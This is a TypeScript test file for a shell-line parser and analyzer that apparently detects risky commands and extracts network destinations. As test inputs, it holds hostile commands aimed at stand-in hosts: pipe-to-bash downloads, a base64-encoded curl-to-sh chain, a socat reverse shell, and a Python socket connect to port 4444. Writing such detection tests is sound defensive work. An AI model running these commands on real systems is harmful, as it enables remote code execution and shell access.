import { describe, expect, it } from 'vitest';
import { analyzeLine } from '../../detectors/analyze/analyzer.js';
import { expandHistory, SessionState } from '../../detectors/analyze/session-state.js';
import { parseShell } from '../../detectors/shell/parse.js';

function run(line: string, state = new SessionState()) {
  return analyzeLine(line, state).commands.filter((c) => !c.wrapper);
}

describe('shell parsing', () => {
  it('splits lists, pipelines and keeps quoted text together', () => {
    const { script } = parseShell(`a 'b c' "d $e" | f && g; h &`);
    expect(script.items.map((i) => i.op)).toEqual(['&&', ';', '&']);
    expect(script.items[0]!.pipeline.commands).toHaveLength(2);
  });

  it('never throws on unbalanced input and bounds nesting', () => {
    for (const s of ['"unterminated', "'x", '$(', '`', '${', '((((', ')))', '<<', 'a |', '{ x', 'case x in', 'f() {']) {
      expect(() => parseShell(s)).not.toThrow();
    }
    const deep = `${'$('.repeat(500)}x${')'.repeat(500)}`;
    expect(parseShell(deep).truncated).toBe(true);
  });

  it('reads here-documents', () => {
    const commands = run('bash <<EOF\nsudo su\nEOF');
    expect(commands.some((c) => c.program === 'bash' && c.elevated && c.origin === 'stdin')).toBe(true);
  });
});

describe('analysis', () => {
  it('unwraps sudo with its options and records the user', () => {
    const [c] = run('sudo -E -u deploy -- env FOO=1 nice -n 5 /usr/local/bin/tool --flag');
    expect(c).toMatchObject({
      program: 'tool',
      path: '/usr/local/bin/tool',
      runAs: 'deploy',
      elevated: false,
      argv: ['/usr/local/bin/tool', '--flag'],
    });
    expect(c!.wrappers.map((w) => w.name)).toEqual(['sudo', 'env', 'nice']);
  });

  it('marks pipeline neighbours and substitutions as data sources', () => {
    const cmds = run('curl -s http://x.example/i | sudo bash');
    const bash = cmds.find((c) => c.program === 'bash')!;
    expect(bash.pipeFrom).toEqual(['curl']);
    expect(bash.interactive).toBe(false);
    expect(run('bash -c "$(wget -qO- http://x.example/i)"').find((c) => c.program === 'bash')!.pipeFrom).toContain(
      'wget',
    );
  });

  it('analyses the decoded payload of a decode-and-run chain', () => {
    const result = analyzeLine(
      'echo Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA== | base64 -d | sh',
      new SessionState(),
    );
    expect(result.decoded).toEqual(['curl http://evil.example/x | sh']);
    const curl = result.commands.find((c) => c.program === 'curl')!;
    expect(curl).toMatchObject({ layer: 1, origin: 'decoded' });
    expect(curl.destinations[0]!.host).toBe('evil.example');
  });

  it('extracts destinations with a real URL parser', () => {
    const hosts = (line: string) =>
      run(line).flatMap((c) => c.destinations.map((d) => `${d.kind}:${d.host}${d.port ? `:${d.port}` : ''}`));
    expect(hosts('curl -s HTTP://User:Pw@EVIL.Example.:8443/x')).toEqual(['domain:evil.example:8443']);
    expect(hosts('wget http://[2001:db8::1]:8080/a')).toEqual(['ipv6:2001:db8::1:8080']);
    expect(hosts('curl http://0x7f000001/')).toEqual(['ipv4:127.0.0.1']);
    expect(hosts('ssh -i key.pem -p 22 admin@bastion.example.com uptime')).toEqual(['domain:bastion.example.com']);
    expect(hosts('scp file.txt user@files.example.net:/tmp/ && nc -zv 10.0.0.5 22')).toEqual([
      'domain:files.example.net',
      'ipv4:10.0.0.5',
    ]);
    expect(hosts('wget -O out.sh http://a.example/x.sh')).toEqual(['domain:a.example']);
    expect(hosts('dig @8.8.8.8 +short txt.example.org')).toEqual(['ipv4:8.8.8.8', 'domain:txt.example.org']);
    expect(hosts('socat TCP:203.0.113.5:443 EXEC:/bin/sh')).toEqual(['ipv4:203.0.113.5:443']);
    expect(hosts('python3 -c "import socket;s.connect((\'198.51.100.3\',4444))"')).toEqual(['ipv4:198.51.100.3']);
    expect(hosts('echo http://not.contacted.example/')).toEqual([]);
  });

  it('keeps session variables, aliases and functions in a bounded snapshot', () => {
    const state = new SessionState();
    run('export A=1; B=2; alias k=kubectl; f() { echo hi; }', state);
    const snap = state.snapshot();
    expect(snap.vars).toMatchObject({ A: '1', B: '2' });
    expect(snap.aliases).toEqual({ k: 'kubectl' });
    expect(snap.functions.f).toContain('echo hi');
    for (let i = 0; i < 1000; i++) run(`V${i}=${'x'.repeat(10_000)}`, state);
    expect(JSON.stringify(state.snapshot()).length).toBeLessThan(1_200_000);
    expect(Object.keys(state.snapshot().vars).length).toBeLessThanOrEqual(256);
  });

  it('expands history references', () => {
    expect(expandHistory('sudo !!', ['systemctl restart x'])).toEqual({
      text: 'sudo systemctl restart x',
      expanded: true,
    });
    expect(expandHistory("echo '!!'", ['ls'])).toEqual({ text: "echo '!!'", expanded: false });
    expect(expandHistory('cat !$', ['vim /etc/hosts']).text).toBe('cat /etc/hosts');
  });

  it('bounds brace expansion and work on hostile lines', () => {
    const result = analyzeLine('echo {a,b}{c,d}{e,f}{g,h}{i,j}{k,l}{m,n}{o,p}{q,r}', new SessionState());
    expect(result.commands[0]!.argv.length).toBeLessThanOrEqual(65);
    const many = analyzeLine(Array(5000).fill('a=$(b=$(c))').join(';'), new SessionState());
    expect(many.truncated).toBe(true);
  });
});

// The fast paths (plain words, pre-checks before a regular expression or a URL parse) must change nothing found.
describe('fast paths', () => {
  const simple = (line: string) => {
    const command = parseShell(line).script.items[0]!.pipeline.commands[0]!;
    if (command.type !== 'simple') throw new Error(`not a simple command: ${line}`);
    return command;
  };

  it('marks the words that expand to themselves, and only those', () => {
    const words = simple(`ls -la /tmp 'q' a*b {a,b} $x a\\ b x"y" ~/f`).words;
    expect(words.map((w) => [w.raw, w.plain === true])).toEqual([
      ['ls', true],
      ['-la', true],
      ['/tmp', true],
      ["'q'", false],
      ['a*b', false],
      ['{a,b}', false],
      ['$x', false],
      ['a\\ b', false],
      ['x"y"', false],
      ['~/f', true],
    ]);
    const [argv] = run(`ls -la /tmp 'q' {a,b} a\\ b x"y"`).map((c) => c.argv);
    expect(argv).toEqual(['ls', '-la', '/tmp', 'q', 'a', 'b', 'a b', 'xy']);
  });

  it('keeps a process substitution that follows a word in that word', () => {
    expect(simple('cat<(ls)').words[0]!.parts.map((p) => p.kind)).toEqual(['lit', 'procsub']);
    expect(simple('tee>(gzip) x').words.map((w) => w.parts.map((p) => p.kind))).toEqual([['lit', 'procsub'], ['lit']]);
    expect(simple('a&b').words.map((w) => w.raw)).toEqual(['a']);
  });

  it('charges a plain word to the parse budget what any other word costs', () => {
    const line = (n: number, word: (i: number) => string) =>
      `echo ${Array.from({ length: n }, (_, i) => word(i)).join(' ')}`;
    for (const word of [(i: number) => `w${i}`, (i: number) => `'w${i}'`]) {
      expect(parseShell(line(6664, word)).truncated).toBe(false);
      expect(parseShell(line(6665, word)).truncated).toBe(true);
    }
  });

  it('finds the destinations among thousands of arguments', () => {
    const filler = Array.from({ length: 3000 }, (_, i) => `w${i}`).join(' ');
    const [cmd] = run(`./k ${filler} http://203.0.113.5/x ${filler} /dev/tcp/198.51.100.1/80 -o pool.example.com:3333`);
    expect(cmd!.destinations.map((d) => `${d.kind}:${d.host}`)).toEqual([
      'ipv4:198.51.100.1',
      'domain:pool.example.com',
      'ipv4:203.0.113.5',
    ]);
    // a URL split over two arguments is no URL
    expect(run('./k http: //203.0.113.5/x')[0]!.destinations).toEqual([]);
  });

  it('classifies URL hosts as the WHATWG parser leaves them', () => {
    const hosts = (line: string) => run(line).flatMap((c) => c.destinations.map((d) => `${d.kind}:${d.host}`));
    expect(hosts('curl https://bücher.example/')).toEqual(['domain:xn--bcher-kva.example']);
    expect(hosts('curl http://[2001:DB8::1]/')).toEqual(['ipv6:2001:db8::1']);
    expect(hosts('curl http://127.1/')).toEqual(['ipv4:127.0.0.1']);
    expect(hosts('curl http://EXAMPLE.com../')).toEqual(['domain:example.com']);
    // the hostname setter cannot drop the dots here (`_.5` would be an invalid IPv4): no destination, as before
    expect(hosts('curl http://u@_.5..:48931')).toEqual([]);
  });
});

describe('names of JavaScript object properties', () => {
  it('are ordinary programs and variables', () => {
    // biome-ignore lint/suspicious/noTemplateCurlyInString: shell syntax
    const line = 'constructor -e x; __proto__ -c y; echo $constructor ${toString:-d}; curl http://203.0.113.66/x';
    const cmds = run(line);
    expect(cmds.map((c) => c.argv)).toEqual([
      ['constructor', '-e', 'x'],
      ['__proto__', '-c', 'y'],
      ['echo', 'd'],
      ['curl', 'http://203.0.113.66/x'],
    ]);
    expect(cmds[0]!.destinations).toEqual([]);
    expect(cmds[3]!.destinations.map((d) => d.host)).toEqual(['203.0.113.66']);
  });
});
